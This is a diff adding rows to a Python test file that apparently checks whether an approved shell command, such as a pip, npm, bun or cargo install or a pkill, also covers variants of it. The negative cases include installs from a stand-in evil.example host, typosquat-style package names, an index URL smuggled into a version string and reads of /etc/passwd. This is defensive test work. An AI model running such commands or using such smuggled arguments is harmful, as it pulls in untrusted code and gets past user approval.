@@ -111,6 +111,29 @@ ROWS = [
     ("oc get pods", "oc get pods --kubeconfig docs/x.yaml", False),
     ("heroku logs", "heroku logs -a other", False),
     ("helm list", "helm list --kube-context prod", False),
+    # The same packages by the same manager, whatever the version.
+    ("pip install esphome", "pip install 'esphome==2025.9.0'", True),
+    ("pip install esphome", "pip install -U esphome", True),
+    ("pip install esphome", "pip install esphome evil", False),
+    ("pip install esphome", "pip install esphome-evil", False),
+    ("pip install esphome", "pip install esphome@git+https://evil.example/x", False),
+    ("pip install esphome", "pip install -i https://evil.example esphome", False),
+    ("pip install esphome", "pip install 'esphome==1 --index-url=x'", False),
+    ("pip install esphome", "pip install ./esphome", False),
+    ("pip install esphome", "pip install -e esphome", False),
+    ("pip install esphome", "npm install esphome", False),
+    ("bun add x", "bun add -d x@^1.2", True),
+    ("bun add x", "bun add x@npm:evil", False),
+    ("bun add x", "bun add x@file:../y", False),
+    ("bun add x", "bun add -g x", False),
+    ("npm i -D vitest@^3.2.0 eslint", "npm install eslint@9 vitest", True),
+    ("npm i -D vitest@^3.2.0 eslint", "npm install eslint vitest evil", False),
+    ("npm install @a/x", "npm install @b/x", False),
+    ("npm install x.tgz", "npm install x.tgz@1", False),
+    ("cargo add serde", "cargo add serde --git https://evil.example/x", False),
+    # What a process is called is the same in every directory.
+    ("pkill -f 'next dev'", "cd docs && pkill -f 'next dev'", True),
+    ("pkill -f 'next dev'", "pkill -f next", False),
     # A pattern may lead through a link, and some programs read a name behind such a sign.
     ("mytool build", "mytool build 'a&/etc/passwd'", False),
     ("mytool build", "mytool build '%/etc/passwd'", False),
@@ -226,6 +249,12 @@ def test_what_must_stay_is_said(place: Place) -> None:
     assert said["pip install -r requirements.txt"].endswith(", while requirements.txt is as it is now")
     words = [o.words for o in place.offers("make deploy")]
     assert words[0] == "exactly `make deploy`, while Makefile is what it was"
+
+
+@pytest.mark.parametrize("text", ["node -e 'fetch(1)'", "node --eval 1", "node -p 1", "ssh web node -e 1"])
+def test_a_text_for_node_is_no_file(place: Place, text: str) -> None:
+    offer = place.offers(text)[0]
+    assert offer.words == "exactly this text, in this directory" and Duration.SESSION not in offer.refused
 
 
 def test_a_new_script_is_what_the_text_writes(place: Place) -> None:
